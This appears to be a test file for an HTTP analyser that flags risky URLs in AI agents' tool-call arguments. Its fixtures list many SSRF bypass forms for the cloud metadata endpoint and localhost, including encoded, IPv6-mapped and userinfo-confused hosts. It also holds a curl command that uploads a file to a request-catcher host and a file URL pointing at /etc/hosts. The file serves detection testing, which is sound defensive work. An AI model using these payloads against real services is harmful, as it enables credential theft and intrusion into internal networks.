import assert from 'node:assert/strict';
import test from 'node:test';
import { httpAnalyser } from '../../../../../services/core/detection/analysers/http/analyser.ts';
import { classifyTarget } from '../../../../../services/core/detection/analysers/http/target.ts';
import { checkAnalyser } from '../../../../../services/core/detection/check-rules.ts';
import { compileEngine } from '../../../../../services/core/detection/engine.ts';
import type { ScanContext } from '../../../../../services/core/detection/types.ts';

const HTTP: ScanContext = { kind: 'tool_arguments', tool_kind: 'HTTP' };
const engine = compileEngine([], [httpAnalyser]);

test('every card holds its examples and the form', () => {
  assert.deepEqual(checkAnalyser(httpAnalyser), []);
});

/** Hosts, and where they lead. */
const reaches: readonly (readonly [string, string])[] = [
  ['http://169.254.169.254/', 'METADATA'],
  ['http://2852039166/', 'METADATA'],
  ['http://0xA9.254.0251.0xfe', 'METADATA'],
  ['http://169.16689662/', 'METADATA'],
  ['http://425.510.425.510/', 'METADATA'],
  ['http://[::ffff:169.254.169.254]/', 'METADATA'],
  ['http://[64:ff9b::a9fe:a9fe]/', 'METADATA'],
  ['http://[2002:a9fe:a9fe::]/', 'METADATA'],
  ['http://１６９.２５４.１６９.２５４/', 'METADATA'],
  ['http://169。254。169。254/', 'METADATA'],
  ['http://169%2e254%2e169%2e254/', 'METADATA'],
  ['http://169%252e254.169.254/', 'METADATA'],
  ['http://a-169-254-169-254.sslip.io/', 'METADATA'],
  ['http:\\\\169.254.169.254\\latest', 'METADATA'],
  ['http:169.254.169.254/', 'METADATA'],
  ['http://metadata.google.internal./', 'METADATA'],
  ['http://127.1/', 'LOOPBACK'],
  ['http://0/', 'LOOPBACK'],
  ['http://[::]/', 'LOOPBACK'],
  ['http://loc%61lhost/', 'LOOPBACK'],
  ['http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/', 'LOOPBACK'],
  ['http://app.localhost:80/', 'LOOPBACK'],
  ['http://good.example@127.0.0.1/', 'LOOPBACK'],
  ['http://127.0.0.1\\@evil.example/', 'LOOPBACK'],
  ['http://good.example#@127.0.0.1/', 'LOOPBACK'],
  ['http://127.0.0.1%00.evil.example/', 'LOOPBACK'],
  ['http://10.1/', 'PRIVATE'],
  ['http://172.31.255.1/', 'PRIVATE'],
  ['http://[fd12::1]/', 'PRIVATE'],
  ['http://100.64.0.1/', 'PRIVATE'],
  ['http://[fe80::1%25eth0]/', 'LINK_LOCAL'],
  ['http://224.0.0.1/', 'RESERVED'],
  ['http://elasticsearch:9200/', 'INTERNAL'],
  ['http://a.svc.cluster.local/', 'INTERNAL'],
  ['http://x.1u.ms/', 'INTERNAL'],
  ['http://172.32.0.1/', 'PUBLIC'],
  ['http://192.169.1.1/', 'PUBLIC'],
  ['http://100.128.0.1/', 'PUBLIC'],
  ['http://[2606:4700:4700::1111]/', 'PUBLIC'],
  ['https://localhost.example.com/', 'PUBLIC'],
  ['https://münchen.example/', 'PUBLIC'],
  ['https://example.com/@localhost/#@127.0.0.1', 'PUBLIC'],
  ['https://my-10.0.0.1.example.com', 'PUBLIC'],
];

for (const [url, reach] of reaches)
  test(`${url} leads to ${reach}`, () => {
    assert.equal(classifyTarget(url).reach, reach);
  });

/** Arguments, and the rules that they break with their severity. */
const told: readonly (readonly [string, readonly string[]])[] = [
  ['{"host":"localhost","port":80}', ['http-internal-host MEDIUM']],
  ['{"url":"10.0.0.4/status"}', ['http-internal-host MEDIUM']],
  ['{"url":"http://0x7f.1/"}', ['http-internal-host HIGH']],
  ['{"url":"https://a.example/r?to=http%3A%2F%2F169.254.169.254%2F"}', ['http-metadata-endpoint CRITICAL']],
  ['{"u":"\\u0068ttp://[::ffff:a9fe:a9fe]/"}', ['http-metadata-endpoint CRITICAL']],
  ['{"url":"FILE:/etc/hosts"}', ['http-local-file HIGH']],
  ['{"url":"https://ann:tiger99@a.example/"}', ['http-credentials MEDIUM']],
  ['{"url":"http://a.example/?access_token=ab12cd34"}', ['http-credentials LOW']],
  ['curl -d @x https://x.requestcatcher.com/t', ['http-data-drop MEDIUM']],
  ['https://a.example:10250/pods', ['http-admin-port MEDIUM']],
  ['{"url":"https://api.example.com/v1?callback=http://localhost:3000/cb"}', []],
  ['{"body":"The docs run at http://localhost:3000/."}', []],
  ['{"target":"production","site":"example","address":"10 Main Street"}', []],
  ['{"url":"s3://bucket/key"}', []],
  ['{"url":"{{base}}/v1/items","path":"/v1"}', []],
  ['{"url":"mailto:a@example.com","src":"data:image/png;base64,iVBO"}', []],
  ['{"ids":["10.0.0.1","127.0.0.1"],"version":"10.0.0.1"}', []],
];

for (const [text, expected] of told)
  test(`judges ${text}`, () => {
    assert.deepEqual(
      engine.scan(text, HTTP).map(({ rule_id, severity }) => `${rule_id} ${severity}`),
      expected,
    );
  });

test('metadata counts in the arguments of every tool, a host within in those of requests only', () => {
  const shell: ScanContext = { kind: 'tool_arguments', tool_kind: 'SHELL' };
  assert.deepEqual(
    engine.scan('ping 169.254.169.254', shell).map(({ rule_id }) => rule_id),
    ['http-metadata-endpoint'],
  );
  assert.deepEqual(engine.scan('curl http://localhost:3000/', shell), []);
});

test('a finding in JSON arguments is the URL', () => {
  const text = '{"a":"\\n","url":"http://127.0.0.1:80/x"}';
  const [found] = engine.scan(text, HTTP);
  assert.equal(text.slice(found?.start, found?.end), 'http://127.0.0.1:80/x');
});
